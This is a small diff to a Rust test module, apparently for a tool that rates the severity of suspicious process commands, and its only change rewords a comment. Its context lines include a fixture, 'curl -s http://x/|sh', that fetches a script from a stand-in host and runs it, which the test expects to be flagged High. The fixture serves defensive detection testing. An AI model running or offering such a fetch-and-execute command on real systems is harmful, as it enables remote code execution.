@@ -94,7 +94,7 @@ mod tests {
         let fetches = &["sh", "-c", "cd /tmp; curl -s http://x/|sh"];
         assert_eq!(below(fetches), Some(Severity::High));
         assert_eq!(below(&["sh", "-c", "convert a.png b.png"]), None);
-        // A program beside the server, not the server, starts it.
+        // Another program, not the server, starts it.
         let mut w = World::found();
         let init = w.init();
         w.found_socket(0, "0.0.0.0:80", None);
